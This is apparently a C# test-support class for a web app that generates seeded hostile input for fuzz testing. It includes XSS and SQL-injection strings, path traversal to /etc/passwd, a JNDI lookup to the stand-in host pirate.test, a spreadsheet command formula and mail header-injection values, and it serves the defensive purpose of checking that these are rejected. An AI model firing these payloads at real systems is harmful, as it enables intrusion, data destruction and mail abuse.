using System.Text;

namespace Guichet.Web.Tests.Support;

/// <summary>
/// A seeded generator of malformed input: the same seed gives the same stream, so a failure is replayed by its seed
/// and round number. Values come in families (overlong text, NULs and control characters, CR/LF header injection,
/// bad UTF-8, boundary dates, wrong JSON types, deep nesting, huge bodies, wrong content types); each pick takes one
/// family at random, so every door sees all of them over a few hundred rounds.
/// </summary>
public sealed class HostileInput(int seed)
{
    /// <summary>The address every header injection tries to add: it must never appear in an outgoing mail's headers.</summary>
    public const string InjectedDomain = "pirate.test";
    public const string InjectedHeader = "X-Injecte";

    private readonly Random random = new(seed);

    public int Seed => seed;
    public int Next(int max) => random.Next(max);
    public bool Chance(int percent) => random.Next(100) < percent;
    public T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    public static readonly string[] Dates =
    [
        "0001-01-01", "9999-12-31", "2026-02-30", "2026-02-29", "2027-02-29", "2026-13-01", "2026-00-10", "2026-12-32",
        "2999-01-01", "1900-01-01", "1970-01-01", "-0001-01-01", "10000-01-01", "2026-1-1", "30/11/2026", "2026-11-30T25:61:00",
        "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-12-01T09:00:00+99:00", "2026-12-01T09:00:00Z",
        "2026-12-01T09:00:00", "demain", "", " ", "2026-12-01\r\n", "2026-W49", "2026-335", "P1D", "now", "null",
    ];

    public static readonly string[] Numbers =
    [
        "0", "-1", "1.5", "1e9", "1e309", "NaN", "Infinity", "-0", "2147483648", "-2147483649", "99999999999999999999",
        "0x10", "1,5", "١", "", " 1", "1 ", "+1", "007", "1/2",
    ];

    private static readonly string[] Nasty =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR 1=1 --", "'; DROP TABLE appointments; --",
        "../../../../etc/passwd", "%00", "%0d%0aBcc:%20x@" + InjectedDomain, "{0}{1}%s%n%x", "${jndi:ldap://" + InjectedDomain + "/a}",
        "\u202Egnp.exe", "\uFEFF", "\u200B\u200B", "🙂🙃", "Ω≈ç√∫", "ǅǈ", "\uD800", "\uDFFF", "a\u0000b", "\u0007\u0008\u001B[31m",
        "null", "undefined", "true", "[]", "{}", "\\", "\\\\\\\"", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-1", "\t\t", "\r", "\n",
    ];

    /// <summary>A header-injection attempt: a plausible value followed by a line break and a header of its own.</summary>
    public string Injection(string plausible) => Pick(new[]
    {
        $"{plausible}\r\nBcc: victime@{InjectedDomain}",
        $"{plausible}\n{InjectedHeader}: oui",
        $"{plausible}\r{InjectedHeader}: oui",
        $"{plausible}\r\n\r\nCorps injecté",
        $"{plausible}%0d%0a{InjectedHeader}:%20oui",
        $"{plausible}\u0085{InjectedHeader}: oui",
        $"{plausible}\u2028{InjectedHeader}: oui",
        $"=?utf-8?b?{Convert.ToBase64String(Encoding.UTF8.GetBytes($"{plausible}\r\n{InjectedHeader}: oui"))}?=",
    });

    /// <summary>One hostile text value, from any family.</summary>
    public string Text(string plausible = "Camille") => Next(12) switch
    {
        0 => new string((char)('a' + Next(26)), Pick(new[] { 101, 255, 256, 1_000, 10_000, 100_000 })),
        1 => Injection(plausible),
        2 => Pick(Nasty),
        3 => Pick(Dates),
        4 => Pick(Numbers),
        5 => plausible + "\0" + plausible,
        6 => RandomUnicode(Next(64) + 1),
        7 => new string(' ', Next(5)),
        8 => plausible + Pick(Nasty),
        9 => string.Concat(Enumerable.Repeat(plausible, 1 + Next(2000))),
        10 => Pick(new[] { "+33612345678\r\n", "06 12 34 56 78\u0000", "+1 202 555 0143", "0899123456", "+33 6 12 34 56 78 90 12", "𝟎𝟔𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖" }),
        _ => plausible,
    };

    /// <summary>An e-mail address that must be refused: header injection, control characters, overlong, or plain wrong.</summary>
    public string Email() => Next(6) switch
    {
        0 => Injection("camille@exemple.fr"),
        1 => "camille@exemple.fr,victime@" + InjectedDomain,
        2 => "\"a\r\nb\"@exemple.fr",
        3 => new string('c', 300) + "@exemple.fr",
        4 => "camille@exemple.fr\0",
        _ => Text("camille@exemple.fr"),
    };

    public string RandomUnicode(int length)
    {
        var sb = new StringBuilder(length);
        for (var i = 0; i < length; i++)
        {
            var c = Next(5) switch { 0 => Next(0x20), 1 => 0x20 + Next(0x5F), 2 => 0x80 + Next(0x780), 3 => 0xD800 + Next(0x800), _ => Next(0xFFFF) };
            sb.Append((char)c);
        }
        return sb.ToString();
    }

    /// <summary>Bytes that are not what they claim: random, invalid UTF-8, a UTF-16 BOM, or very large.</summary>
    public byte[] Bytes() => Next(6) switch
    {
        0 => RandomBytes(Next(2048)),
        1 => [0xC0, 0x80, 0xFF, 0xFE, 0xED, 0xA0, 0x80, 0xF4, 0x90, 0x80, 0x80, 0xE2, 0x28, 0xA1, (byte)'{', (byte)'}'],
        2 => [0xFF, 0xFE, (byte)'{', 0, (byte)'}', 0],
        3 => RandomBytes(Pick(new[] { 64 * 1024, 1024 * 1024, 3 * 1024 * 1024 })),
        4 => [],
        _ => Encoding.Latin1.GetBytes("prénom=Cam\xe9ille&nom=\xff\xfe"),
    };

    public byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>A JSON document of the wrong shape, or nested very deep, or broken.</summary>
    public string Json() => Next(8) switch
    {
        0 => new string('[', 1 + Next(20_000)) + new string(']', Next(20_000)),
        1 => string.Concat(Enumerable.Repeat("{\"a\":", 1 + Next(5_000))) + "1" + new string('}', Next(5_000)),
        2 => Pick(new[] { "null", "true", "0", "\"texte\"", "[]", "{}", "[1,2,3]", "{\"site\":{}}", "{\"persons\":\"deux\"}" }),
        3 => "{\"a\":" + new string('1', 100_000) + "}",
        4 => "{\"" + RandomUnicode(20).Replace("\"", "") + "\":1,",
        5 => "{\"site\":\"x\",\"site\":\"y\",\"__proto__\":{\"admin\":true}}",
        6 => "\uFEFF{\"a\":1}\u0000",
        _ => Encoding.UTF8.GetString(RandomBytes(Next(512))),
    };

    public string? ContentType() => Pick(new[]
    {
        null, "application/json", "application/json; charset=iso-8859-1", "application/json; charset=nonsense", "text/plain",
        "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x",
        "application/xml", "text/xml; charset=utf-16", "message/rfc822", "image/png", "application/octet-stream", "*/*", "application/*+json",
    });

    /// <summary>A query string of hostile values for the given parameter names (and sometimes strangers or repeats).</summary>
    public string Query(params string[] names)
    {
        var parts = new List<string>();
        foreach (var name in names)
        {
            if (Chance(20)) continue;
            var repeats = Chance(10) ? 1 + Next(300) : 1;
            for (var i = 0; i < repeats; i++) parts.Add($"{name}={Escape(repeats == 1 ? Text() : Shorten(Text(), 200))}");
        }
        if (Chance(15)) parts.Add($"{Escape(Text("x"))}={Escape(Text())}");
        if (Chance(5)) parts.Add("%ZZ=%GG&&&==");
        return string.Join('&', parts);
    }

    public static string Shorten(string value, int max) => value.Length <= max ? value : value[..max];

    /// <summary>Escapes what a client would, leaving a lone surrogate as an invalid escape instead of throwing.</summary>
    public static string Escape(string value)
    {
        if (value.Length > 60_000) value = value[..60_000];
        try { return Uri.EscapeDataString(value); }
        catch (UriFormatException) { return "%ED%A0%80"; }
    }
}
